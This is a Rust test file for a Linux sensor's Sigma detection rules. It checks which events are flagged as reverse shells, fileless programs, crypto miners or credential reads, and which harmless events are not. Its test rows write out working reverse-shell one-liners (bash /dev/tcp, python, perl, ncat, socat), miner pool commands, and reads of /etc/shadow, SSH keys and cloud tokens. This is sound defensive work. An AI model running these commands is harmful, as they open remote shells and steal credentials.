//! The rules' verdicts, a row a case: which rules match an event, and which honest events none does.
//!
//! Runs the rules alone, over events as the sensor words them. What the sensor sees in truth is tried end to end
//! in the workspace's tests.

use rsigma_eval::event::JsonEvent;
use rsigma_eval::{Engine, MatchDetailLevel};
use serde_json::{Value, json};
use std::collections::BTreeMap;

/// One engine a category, as quell runs them.
fn engines() -> BTreeMap<String, Engine> {
    let mut engines: BTreeMap<String, Engine> = BTreeMap::new();
    for file in crate::rules() {
        let collection = rsigma_parser::parse_sigma_yaml(file.text).unwrap_or_else(|e| panic!("{}: {e}", file.name));
        assert_eq!(collection.errors, Vec::<String>::new(), "{}", file.name);
        // Those of a cluster's audit log are tried over real records, in the workspace's tests.
        if collection.rules[0].logsource.category.is_none() {
            continue;
        }
        assert_eq!(collection.rules.len(), 1, "{}", file.name);
        let rule = &collection.rules[0];
        let engine = engines.entry(rule.logsource.category.clone().unwrap()).or_default();
        engine.set_match_detail(MatchDetailLevel::Off);
        engine.add_rule(rule).unwrap_or_else(|e| panic!("{}: {e}", file.name));
    }
    engines
}

fn names() -> BTreeMap<String, String> {
    let title = |text: &str, key: &str| {
        text.lines().find_map(|line| line.strip_prefix(key)).map(|rest| rest.trim().to_owned()).unwrap()
    };
    crate::rules().iter().map(|file| (title(file.text, "title:"), title(file.text, "name:"))).collect()
}

/// Tries every row; tells all that came out otherwise.
fn check(category: &str, rows: &[(&str, Value)]) {
    let (engines, names) = (engines(), names());
    let mut wrong = Vec::new();
    for (expected, event) in rows {
        let found: Vec<&str> = engines[category]
            .evaluate(&JsonEvent::borrow(event))
            .iter()
            .map(|result| names[result.header.rule_title.as_str()].as_str())
            .collect();
        if found.join(" ") != *expected {
            wrong.push(format!("expected `{expected}`, found `{}`: {event}", found.join(" ")));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

fn exec(image: &str, command_line: &str, more: Value) -> Value {
    let mut event = json!({
        "Image": image, "CommandLine": command_line, "ParentImage": "/usr/bin/python3.11",
        "process.stdio.socket": false, "process.stdio.relayed": false,
        "process.memfd": false, "process.deleted": false, "process.in_shm": false,
    });
    event.as_object_mut().unwrap().extend(more.as_object().unwrap().clone());
    event
}

fn connect(image: &str, command_line: &str, port: u16, more: Value) -> Value {
    let mut event = json!({
        "Image": image, "process.command_line": command_line, "Initiated": "true", "DestinationIp": "203.0.113.9",
        "DestinationPort": port, "process.memfd": false, "process.deleted": false, "network.feeds_shell": false,
    });
    event.as_object_mut().unwrap().extend(more.as_object().unwrap().clone());
    event
}

fn read(path: &str, image: &str, command_line: &str, more: Value) -> Value {
    let mut event = json!({
        "TargetFilename": path, "file.operation": "read", "Image": image, "CommandLine": command_line,
        "process.tty": null, "process.memfd": false, "process.deleted": false, "process.cwd": "/",
    });
    event.as_object_mut().unwrap().extend(more.as_object().unwrap().clone());
    event
}

#[test]
fn shells_on_the_network() {
    let socket = || json!({"process.stdio.socket": true});
    let relayed = |by: &str| json!({"process.stdio.relayed": true, "process.stdio.relay_image": by});
    check(
        "process_creation",
        &[
            ("reverse-shell", exec("/usr/bin/bash", "bash -i", socket())),
            ("reverse-shell", exec("/usr/bin/dash", "/bin/sh", socket())),
            ("reverse-shell", exec("/usr/bin/dash", "-sh", socket())),
            ("reverse-shell", exec("/usr/bin/bash", "bash --norc --noprofile -li", socket())),
            ("reverse-shell", exec("/usr/bin/bash", "bash --rcfile /tmp/rc -i", socket())),
            ("reverse-shell", exec("/tmp/x/bash", "[kworker/0:1] -i", socket()).clone()),
            ("reverse-shell", exec("/bin/busybox", "sh -i", socket())),
            ("reverse-shell", exec("/bin/busybox", "/bin/busybox ash", socket())),
            ("reverse-shell", exec("/usr/bin/python3.11", "python3 -i", socket())),
            ("reverse-shell", exec("/usr/bin/perl", "perl", socket())),
            ("reverse-shell-relayed", exec("/usr/bin/bash", "bash -i", relayed("/usr/bin/ncat"))),
            ("reverse-shell-relayed", exec("/usr/bin/bash", "bash", relayed("/usr/bin/python3.11"))),
            ("reverse-shell-relayed", exec("/usr/bin/dash", "sh -i", relayed("/tmp/sshd"))),
            ("reverse-shell-relayed", exec("/usr/bin/dash", "sh -i", relayed("/usr/bin/socat1"))),
            ("reverse-shell-relayed", exec("/usr/bin/python3.11", "python3 -i", relayed("/usr/bin/ncat"))),
            (
                "reverse-shell-command",
                exec("/usr/bin/id", "id", json!({"process.stdio.socket": true, "ParentImage": "/tmp/.x/sshd"})),
            ),
            (
                "reverse-shell-one-liner",
                exec("/usr/bin/bash", "bash -c bash -i >& /dev/tcp/203.0.113.9/443 0>&1", json!({})),
            ),
            (
                "reverse-shell-one-liner",
                exec(
                    "/usr/bin/bash",
                    "bash -c exec 5<>/dev/tcp/a/1; cat <&5 | while read l; do $l 2>&5 >&5; done",
                    json!({}),
                ),
            ),
            (
                "reverse-shell-one-liner",
                exec("/usr/bin/bash", "bash -c 0<&196;exec 196<>/dev/tcp/a/1; sh <&196 >&196 2>&196", json!({})),
            ),
            (
                "reverse-shell-one-liner",
                exec(
                    "/usr/bin/python3.11",
                    "python3 -c import socket,os,pty;s=socket.socket();s.connect((\"a\",1));[os.dup2(s.fileno(),f) for f in(0,1,2)];pty.spawn(\"sh\")",
                    json!({}),
                ),
            ),
            (
                "reverse-shell-one-liner",
                exec(
                    "/usr/bin/perl",
                    "perl -e use Socket;socket(S,2,1,6);connect(S,$a);open(STDIN,\">&S\");exec(\"/bin/sh -i\");",
                    json!({}),
                ),
            ),
            ("reverse-shell-one-liner", exec("/usr/bin/ncat", "ncat 203.0.113.9 443 -e /bin/bash", json!({}))),
            ("reverse-shell-one-liner", exec("/usr/bin/ncat", "ncat --sh-exec bash 203.0.113.9 443", json!({}))),
            (
                "reverse-shell-one-liner",
                exec("/usr/bin/socat1", "socat TCP:203.0.113.9:443 EXEC:'bash -li',pty,stderr", json!({})),
            ),
            (
                "reverse-shell-command",
                exec(
                    "/usr/bin/id",
                    "id",
                    json!({"process.stdio.socket": true, "ParentImage": "/usr/bin/bash", "process.parent.stdio.socket": false}),
                ),
            ),
            (
                "reverse-shell-command",
                exec(
                    "/usr/bin/dash",
                    "sh -c id",
                    json!({"process.stdio.socket": true, "ParentImage": "/usr/bin/bash", "process.parent.stdio.socket": false}),
                ),
            ),
            // Honest.
            (
                "",
                exec(
                    "/usr/bin/dash",
                    "sh -c id",
                    json!({"process.stdio.socket": true, "ParentImage": "/usr/bin/bash", "process.parent.stdio.socket": true}),
                ),
            ),
            (
                "",
                exec(
                    "/usr/bin/id",
                    "id",
                    json!({"process.stdio.socket": true, "ParentImage": "/usr/bin/bash", "process.parent.stdio.socket": true}),
                ),
            ),
            (
                "",
                exec(
                    "/usr/bin/cat",
                    "cat",
                    json!({"process.stdio.socket": true, "ParentImage": "/usr/bin/bash", "process.parent.stdio.socket": false}),
                ),
            ),
            ("", exec("/usr/bin/bash", "-bash", relayed("/usr/sbin/sshd"))),
            ("", exec("/usr/bin/bash", "bash", relayed("/usr/lib/openssh/sshd-session"))),
            ("", exec("/usr/bin/dash", "sh", relayed("/usr/bin/containerd-shim-runc-v2"))),
            ("", exec("/usr/bin/dash", "sh", relayed("/var/lib/rancher/k3s/data/abc123/bin/containerd"))),
            ("", exec("/usr/bin/bash", "bash --login", relayed("/usr/bin/gitlab-runner"))),
            ("", exec("/usr/bin/bash", "bash", relayed("/usr/bin/xterm"))),
            (
                "",
                exec(
                    "/usr/bin/bash",
                    "bash -e /home/runner/work/_temp/step.sh",
                    relayed("/home/runner/bin/Runner.Worker"),
                ),
            ),
            ("", exec("/usr/bin/dash", "sh -c convert in.png out.jpg", relayed("/usr/sbin/apache2"))),
            ("", exec("/usr/bin/dash", "/bin/sh /usr/lib/cgi-bin/status.sh", socket())),
            ("", exec("/usr/bin/bash", "/bin/bash /usr/bin/check_mk_agent", socket())),
            (
                "",
                exec(
                    "/usr/bin/uname",
                    "uname -a",
                    json!({"process.stdio.socket": true, "ParentImage": "/usr/bin/dash"}),
                ),
            ),
            ("", exec("/usr/bin/rsync", "rsync --daemon", socket())),
            ("", exec("/usr/bin/python3.11", "python3 /srv/echo.py", socket())),
            ("", exec("/usr/bin/python3.11", "python3", relayed("/home/a/bin/agent"))),
            ("", exec("/usr/bin/dash", "sh", json!({}))),
            ("", exec("/usr/bin/bash", "bash -c echo > /dev/tcp/db/5432", json!({}))),
            (
                "",
                exec(
                    "/usr/bin/bash",
                    "bash -c exec 3<>/dev/tcp/web/80; echo GET / >&3; while read l; do echo $l; done <&3",
                    json!({}),
                ),
            ),
            ("", exec("/usr/bin/socat1", "socat TCP-LISTEN:80,fork TCP:10.0.0.2:80", json!({}))),
            ("", exec("/usr/bin/socat1", "socat TCP-LISTEN:7,fork EXEC:/usr/lib/echo.sh", json!({}))),
            ("", exec("/usr/bin/nc.openbsd", "nc -zv db 5432", json!({}))),
            (
                "",
                exec(
                    "/usr/bin/python3.11",
                    "python3 -c import socket; socket.create_connection((\"db\", 1))",
                    json!({}),
                ),
            ),
        ],
    );
    check(
        "network_connection",
        &[
            (
                "reverse-shell-connects",
                connect("/usr/bin/nc.openbsd", "nc 203.0.113.9 443", 443, json!({"network.feeds_shell": true})),
            ),
            ("reverse-shell-connects", connect("/tmp/sshd", "sshd", 443, json!({"network.feeds_shell": true}))),
            ("", connect("/usr/sbin/sshd", "sshd: ann", 22, json!({"network.feeds_shell": true}))),
            ("", connect("/usr/bin/emacs-gtk", "emacs", 443, json!({"network.feeds_shell": true}))),
            (
                "",
                connect(
                    "/usr/bin/python3.11",
                    "jupyter",
                    8888,
                    json!({"network.feeds_shell": true, "Initiated": "false"}),
                ),
            ),
            ("", connect("/usr/bin/nc.openbsd", "nc 203.0.113.9 443", 443, json!({}))),
        ],
    );
}

#[test]
fn programs_without_a_file() {
    let memfd = || json!({"process.memfd": true});
    let deleted = || json!({"process.deleted": true});
    check(
        "process_creation",
        &[
            ("fileless-memfd", exec("/memfd:x", "[kworker/u8:1]", memfd())),
            ("fileless-memfd", exec("/memfd:runc_cloned:/proc/self/exe", "runc init", memfd())),
            (
                "fileless-memfd",
                exec("/memfd:x", "x", json!({"process.memfd": true, "ParentProcessId": 1, "source": "scan"})),
            ),
            ("", exec("/memfd:x", "x", json!({"process.memfd": true, "ParentProcessId": 1, "source": "sensor"}))),
            ("fileless-deleted", exec("/tmp/x", "x", deleted())),
            ("fileless-deleted", exec("/home/a/.cache/x", "x", deleted())),
            ("fileless-descriptor", exec("/usr/bin/dash", "/bin/sh /proc/self/fd/9", json!({}))),
            ("fileless-descriptor", exec("/usr/bin/python3.11", "python3 -u /proc/77/fd/3 a", json!({}))),
            ("", exec("/usr/bin/bash", "bash /dev/fd/63", json!({}))),
            ("", exec("/usr/bin/wc", "wc -c /proc/self/fd/3", json!({}))),
            ("fileless-shm", exec("/dev/shm/x", "x", json!({"process.in_shm": true}))),
            ("fileless-shm", exec("/usr/bin/bash", "bash /dev/shm/x.sh", json!({}))),
            ("fileless-shm", exec("/usr/bin/dash", "/bin/sh -e /dev/shm/x.sh a b", json!({}))),
            ("fileless-shm", exec("/usr/bin/python3.11", "python3 -u /dev/shm/.x/a.py", json!({}))),
            (
                "fileless-shm",
                exec(
                    "/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2",
                    "/lib64/ld-linux-x86-64.so.2 /dev/shm/x",
                    json!({}),
                ),
            ),
            // Honest.
            (
                "",
                exec(
                    "/memfd:runc_cloned:/proc/self/exe",
                    "runc init",
                    json!({"process.memfd": true, "ParentImage": "/usr/bin/runc"}),
                ),
            ),
            ("", exec("/usr/lib/chromium/chromium", "/proc/self/exe --type=utility", deleted())),
            ("", exec("/usr/bin/dockerd", "docker-untar", deleted())),
            (
                "",
                exec(
                    "/home/a/firefox/firefox",
                    "firefox",
                    json!({"process.deleted": true, "ParentImage": "/home/a/firefox/firefox"}),
                ),
            ),
            ("", exec("/usr/bin/vim.basic", "vim /dev/shm/notes", json!({}))),
            ("", exec("/usr/bin/bash", "bash -c cp a /dev/shm/b", json!({}))),
            ("", exec("/usr/bin/python3.11", "python3 train.py --cache /dev/shm/c", json!({}))),
            ("", exec("/tmp/go-build1/b001/exe/main", "main", json!({}))),
        ],
    );
}

#[test]
fn miners() {
    let monero = "4".to_owned() + &"8".repeat(94);
    let paid = format!("/tmp/.x/kworker --url gw.example.org:443 -u {monero}.host -p x");
    let wallet_only = format!("./x -w {monero}");
    let short = format!("./x -o 203.0.113.9:3333 -u {monero} -k");
    check(
        "process_creation",
        &[
            (
                "crypto-miner-command-line",
                exec("/usr/sbin/updated", "updated -o stratum+tcp://pool.example.org:3333 -u a", json!({})),
            ),
            ("crypto-miner-command-line", exec("/tmp/a", "a --url=stratum+ssl://203.0.113.9:443", json!({}))),
            ("crypto-miner-command-line", exec("/tmp/a", "a -o pool.supportxmr.com:443", json!({}))),
            (
                "crypto-miner-command-line",
                exec("/usr/bin/python3.11", "python3 m.py -o stratum2+tcp://203.0.113.9:34254", json!({})),
            ),
            ("crypto-miner-command-line", exec("/tmp/.x/kworker", &paid, json!({}))),
            ("crypto-miner-command-line", exec("/tmp/x", &wallet_only, json!({}))),
            ("crypto-miner-command-line", exec("/tmp/x", &short, json!({}))),
            ("crypto-miner-command-line", exec("/tmp/x", "x -o 203.0.113.9:3333 -u worker -p x", json!({}))),
            ("crypto-miner-command-line", exec("/tmp/x", "x --config=c --donate-level 1", json!({}))),
            ("crypto-miner-command-line", exec("/tmp/x", "x --coin monero", json!({}))),
            ("crypto-miner-command-line", exec("/tmp/x", "x --algo=rx/0", json!({}))),
            ("crypto-miner-command-line", exec("/tmp/bash", "bash -o stratum+tcp://a:1", json!({}))),
            ("crypto-miner-name", exec("/tmp/xmrig", "./xmrig", json!({}))),
            ("crypto-miner-name", exec("/var/tmp/kdevtmpfsi", "kdevtmpfsi", json!({}))),
            // Honest.
            ("", exec("/usr/bin/grep", "grep -r stratum+tcp:// /var/log", json!({}))),
            ("", exec("/usr/bin/bash", "bash -c grep -r stratum+tcp:// /var/log", json!({}))),
            ("", exec("/usr/bin/git", "git log -S stratum+tcp://pool:3333", json!({}))),
            ("", exec("/usr/bin/vim.basic", "vim xmrig-notes.txt", json!({}))),
            ("", exec("/usr/bin/curl", "curl -o 203.0.113.9:80 -u me -k https://supportxmr.com:443/", json!({}))),
            ("", exec("/usr/bin/ssh", "ssh -o ConnectTimeout=5 -p 2222 u@h", json!({}))),
            ("", exec("/usr/bin/mysql", "mysql -u root -p -h db", json!({}))),
            ("", exec("/usr/bin/gcc", "gcc -o out -O2 -pthread a.c", json!({}))),
            ("", exec("/usr/bin/sort", "sort -k 2 -t : -u -o out", json!({}))),
            ("", exec("/usr/bin/git", "git sha 0x4", json!({}))),
            ("", exec("/usr/bin/openssl", "openssl --algo sha256", json!({}))),
        ],
    );
    check(
        "network_connection",
        &[
            ("crypto-miner-pool", connect("/tmp/x", "x", 3333, json!({}))),
            ("crypto-miner-pool", connect("/var/tmp/.cache/x", "x", 14444, json!({}))),
            ("crypto-miner-pool", connect("/home/a/.config/.x/y", "y", 4444, json!({}))),
            ("crypto-miner-pool", connect("/memfd:", "y", 4444, json!({"process.memfd": true}))),
            ("crypto-miner-pool", connect("/srv/x", "[kworker/0:1]", 5555, json!({}))),
            ("crypto-miner-pool", connect("/usr/bin/x", "[kworker/0:1]", 5555, json!({}))),
            ("crypto-miner-pool", connect("/srv/x", "./x -c /srv/config.json", 3333, json!({}))),
            ("crypto-miner-pool", connect("/srv/x", "x", 7777, json!({"process.deleted": true}))),
            // Honest.
            ("", connect("/usr/bin/python3.11", "python3 client.py", 3333, json!({}))),
            ("", connect("/usr/lib/jvm/java-17/bin/java", "java -jar selenium.jar", 4444, json!({}))),
            ("", connect("/usr/bin/adb", "adb connect", 5555, json!({}))),
            ("", connect("/tmp/x", "x", 443, json!({}))),
            ("", connect("/tmp/x", "x", 3333, json!({"Initiated": "false"}))),
            ("", connect("/tmp/go-build123/b001/exe/main", "main", 4444, json!({}))),
            ("", connect("/home/a/.cargo/bin/tool", "tool", 7777, json!({}))),
            ("", connect("/usr/bin/node", "node -c config.json", 3333, json!({}))),
        ],
    );
}

#[test]
fn readers_of_credentials() {
    let key = "/home/ann/.ssh/id_ed25519";
    let aws = "/root/.aws/credentials";
    let token = "/run/secrets/kubernetes.io/serviceaccount/..2026_11_28/token";
    let none = || json!({});
    check(
        "file_event",
        &[
            ("credential-shadow", read("/etc/shadow", "/usr/bin/cat", "cat /etc/shadow", none())),
            ("credential-shadow", read("/etc/shadow", "/tmp/sshd", "sshd", none())),
            (
                "credential-shadow",
                read("/etc/shadow-", "/usr/bin/python3.11", "python3 -c open('/etc/shadow-')", none()),
            ),
            ("credential-shadow", read("/etc/shadow", "/usr/bin/cp", "cp -p /etc/shadow /tmp/x", none())),
            (
                "credential-shadow",
                read("/etc/shadow", "/usr/bin/vim.basic", "vim /etc/shadow", json!({"process.tty": "pts/0"})),
            ),
            ("credential-ssh-key", read(key, "/usr/bin/cat", "cat id_ed25519", none())),
            ("credential-ssh-key", read(key, "/usr/bin/ln", "ln id_ed25519 x", json!({"file.operation": "link"}))),
            ("credential-ssh-key", read(key, "/tmp/ssh", "ssh -i id_ed25519 h", none())),
            ("credential-ssh-key", read(key, "/usr/bin/tar", "tar cz /home/a/.ssh", none())),
            ("", read(key, "/usr/bin/tar", "tar cz /home", none())),
            ("", read(key, "/usr/bin/sha256sum", "sha256sum /home/a/.ssh/id_rsa", none())),
            ("credential-ssh-key", read(key, "/tmp/tar", "tar cz /home", none())),
            ("", read("/etc/shadow-", "/usr/bin/tar", "tar czf b.tgz /etc", none())),
            ("", read("/etc/shadow", "/usr/bin/cp", "cp -a /etc d", none())),
            ("credential-ssh-key", read("/home/ann/.ssh/prod.pem", "/usr/bin/base64", "base64 prod.pem", none())),
            ("credential-ssh-key", read("/etc/ssh/ssh_host_rsa_key", "/usr/bin/perl", "perl -ne print", none())),
            ("credential-ssh-key", read(key, "/usr/bin/vim.basic", "vim -es -c w!/tmp/x", none())),
            ("credential-ssh-key", read(key, "/usr/bin/python3.11", "python3 /usr/../tmp/x.py", none())),
            ("credential-cloud", read(aws, "/usr/bin/python3.11", "python3 /tmp/x.py", none())),
            ("credential-cloud", read(aws, "/usr/bin/bash", "bash", none())),
            (
                "credential-cloud",
                read("/home/a/.config/gcloud/credentials.db", "/usr/bin/cp", "cp credentials.db x", none()),
            ),
            (
                "credential-kubernetes",
                read("/root/.kube/config", "/usr/bin/grep", "grep token /root/.kube/config", none()),
            ),
            ("credential-kubernetes", read("/etc/kubernetes/admin.conf", "/tmp/kubectl", "kubectl", none())),
            ("credential-service-account", read(token, "/usr/bin/cat", "cat token", none())),
            ("credential-service-account", read(token, "/usr/bin/bash", "bash -i", none())),
            ("credential-service-account", read(token, "/tmp/x", "x", none())),
            ("credential-service-account", read(token, "/usr/bin/python3.11", "python3 -c import os", none())),
            ("credential-developer", read("/root/.git-credentials", "/usr/bin/cat", "cat", none())),
            ("credential-developer", read("/home/a/.docker/config.json", "/usr/bin/python3.11", "python3 -", none())),
            (
                "credential-browser",
                read("/home/a/.mozilla/firefox/x.default/logins.json", "/usr/bin/python3.11", "python3 x.py", none()),
            ),
            (
                "credential-browser",
                read("/home/a/.config/google-chrome/Default/Login Data", "/usr/bin/sqlite3", "sqlite3", none()),
            ),
            // Honest.
            ("", read("/etc/shadow", "/usr/sbin/sshd", "sshd: ann", none())),
            ("", read("/etc/shadow", "/usr/bin/sudo", "sudo ls", none())),
            ("", read("/etc/shadow", "/usr/bin/passwd", "passwd -S root", none())),
            ("", read("/etc/shadow", "/usr/sbin/unix_chkpwd", "unix_chkpwd root nullok", none())),
            ("", read("/etc/shadow", "/usr/sbin/cron", "cron -f", none())),
            ("", read("/etc/shadow", "/usr/lib/systemd/systemd", "(sd-pam)", none())),
            ("", read("/etc/shadow", "/usr/lib/polkit-1/polkit-agent-helper-1", "x", none())),
            ("", read("/etc/shadow", "/usr/lib/dovecot/auth", "dovecot/auth", none())),
            (
                "",
                read(
                    "/etc/shadow",
                    "/usr/bin/cp",
                    "cp -p /etc/shadow shadow.bak",
                    json!({"process.cwd": "/var/backups"}),
                ),
            ),
            ("", read("/etc/shadow", "/usr/bin/python3.11", "/usr/bin/python3 /usr/bin/borg create x", none())),
            ("", read("/etc/shadow", "/usr/bin/cat", "cat", json!({"file.operation": "write"}))),
            ("", read("/etc/passwd", "/usr/bin/cat", "cat /etc/passwd", none())),
            ("", read(key, "/usr/bin/ssh", "ssh h", none())),
            ("", read(key, "/usr/bin/ssh-keygen", "ssh-keygen -y -f", none())),
            ("", read("/home/ann/.ssh/id_ed25519.pub", "/usr/bin/cat", "cat", none())),
            ("", read("/home/ann/.ssh/config", "/usr/bin/cat", "cat", none())),
            ("", read("/etc/ssh/ssh_host_ed25519_key", "/usr/sbin/sshd", "sshd -D", none())),
            ("", read(key, "/usr/bin/python3.11", "/usr/bin/python3 /usr/bin/ansible-playbook x.yml", none())),
            ("", read(aws, "/usr/local/aws-cli/v2/2.15.0/dist/aws", "aws s3 ls", none())),
            ("", read(aws, "/usr/bin/python3.11", "/usr/bin/python3 /usr/bin/aws s3 ls", none())),
            ("", read(aws, "/usr/bin/terraform", "terraform plan", none())),
            ("", read(aws, "/usr/bin/vim.basic", "vim credentials", json!({"process.tty": "pts/3"}))),
            ("", read("/root/.kube/config", "/usr/local/bin/kubectl", "kubectl get pods", none())),
            ("", read("/root/.kube/config", "/usr/bin/helm", "helm list", none())),
            ("", read("/etc/kubernetes/kubelet.conf", "/usr/bin/kubelet", "kubelet", none())),
            ("", read(token, "/app/server", "server", none())),
            ("", read(token, "/usr/bin/python3.11", "python3 /app/main.py", none())),
            ("", read("/root/.git-credentials", "/usr/lib/git-core/git", "git credential-store get", none())),
            ("", read("/root/.git-credentials", "/usr/bin/git", "git credential-store get", none())),
            ("", read("/home/a/.docker/config.json", "/usr/bin/docker", "docker pull", none())),
            (
                "",
                read(
                    "/home/a/.docker/config.json",
                    "/usr/libexec/docker/cli-plugins/docker-compose",
                    "docker-compose up",
                    none(),
                ),
            ),
            (
                "",
                read(
                    "/home/a/.mozilla/firefox/x.default/logins.json",
                    "/usr/lib/firefox-esr/firefox-esr",
                    "firefox-esr",
                    none(),
                ),
            ),
            ("", read("/home/a/.config/google-chrome/Default/Cookies", "/opt/google/chrome/chrome", "chrome", none())),
        ],
    );
}
